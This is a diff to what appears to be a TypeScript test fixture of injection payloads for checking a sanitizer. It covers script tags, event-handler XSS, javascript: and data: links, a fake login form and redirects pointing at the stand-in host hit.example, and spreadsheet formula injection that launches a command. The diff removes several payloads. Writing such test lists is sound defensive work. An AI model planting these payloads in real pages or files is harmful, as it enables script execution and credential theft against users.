@@ -5,18 +5,13 @@
 const markup = [
   // Scripts, and the end of the element around the text
   '<script>hit()</script>',
-  '<ScRiPt src=//hit.example/a.js></sCrIpT>',
   '</script><script>hit()</script><!-- $& "quoted" -->',
-  '<!--<script>hit()//-->',
   '</style></title></textarea></template></noscript></svg></math><img src=x onerror=hit()>',
   '<scr<script>ipt>hit()</scr</script>ipt>',
   // Event handlers
   '<img src=x onerror=hit()>',
-  '<img/src=x/onerror="&#104;&#105;&#116;()">',
   '<svg onload=hit()><animate onbegin=hit() attributeName=x dur=1s>',
   '<p autofocus tabindex=1 onfocus=hit() onclick=hit()>oak</p>',
-  '<details open ontoggle=hit()><summary>oak</summary></details>',
-  '<video><source onerror=hit()></video>',
   '<b/onclick=hit()//style=position:fixed;inset:0>oak</b>',
   // Addresses that run code or leave the site
   '<a href="javascript:hit()">oak</a>',
@@ -24,7 +19,6 @@ const markup = [
   '<a href="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">oak</a>',
   '<form action=https://hit.example/a><input name=password><button>Log In</button></form>',
   '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
-  '<object data="https://hit.example/a.html"></object>',
   '<meta http-equiv=refresh content="0;url=https://hit.example/a">',
   '<base href="https://hit.example/">',
   // Changes of the page without a script
@@ -35,12 +29,9 @@ const markup = [
   // Malformed markup
   '"><img src=x onerror=hit()>',
   "' onmouseover='hit()",
-  '<img """><script>hit()</script>">',
   '<img src=x onerror=hit()',
-  '<<<<b>oak</b>>>>',
   '<b><i><p><ul><li><h2><img src=x onerror=hit()></b></i></p></ul></h2>',
   '<scr\0ipt>hit()</scr\0ipt>',
-  '<!--x--!><img src=x onerror=hit()>',
   '\ufeff<\u200bscript>hit()</script>',
   '&lt;script&gt;hit()&lt;/script&gt;&#x3c;img src=x onerror=hit()&#x3e;',
 ]
@@ -68,9 +59,7 @@ const otherLanguages = [
   // Formulas of spreadsheets
   '=HYPERLINK("https://hit.example/a","oak")',
   "+cmd|' /C calc'!A0",
-  '-2+3+cmd|oak',
   '@SUM(1+1)*hit',
-  '\t=1+1',
 ]
 
 export type Payload = { number: number; text: string }
